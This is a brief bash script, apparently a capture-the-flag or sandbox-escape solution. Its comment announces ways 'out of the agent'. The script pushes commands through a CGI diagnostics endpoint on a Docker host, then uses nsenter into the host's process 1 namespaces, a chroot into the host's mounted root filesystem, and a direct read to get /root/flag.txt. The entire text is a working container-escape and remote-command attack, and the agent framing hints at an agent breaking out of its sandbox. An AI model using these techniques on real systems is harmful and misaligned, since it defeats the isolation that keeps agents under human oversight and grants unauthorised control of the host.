#!/bin/bash
# Two ways out of the agent: into the namespaces of the Docker host's process 1, or into its disk, which is mounted anyway.
diag() {
  curl --silent --max-time 5 --get http://dockerhost:9100/cgi-bin/diag --data-urlencode "cmd=$1"
}

diag 'nsenter -t 1 -m -u -i -n -p -- cat /root/flag.txt'
diag 'chroot /rootfs cat /root/flag.txt'
diag 'cat /rootfs/root/flag.txt'
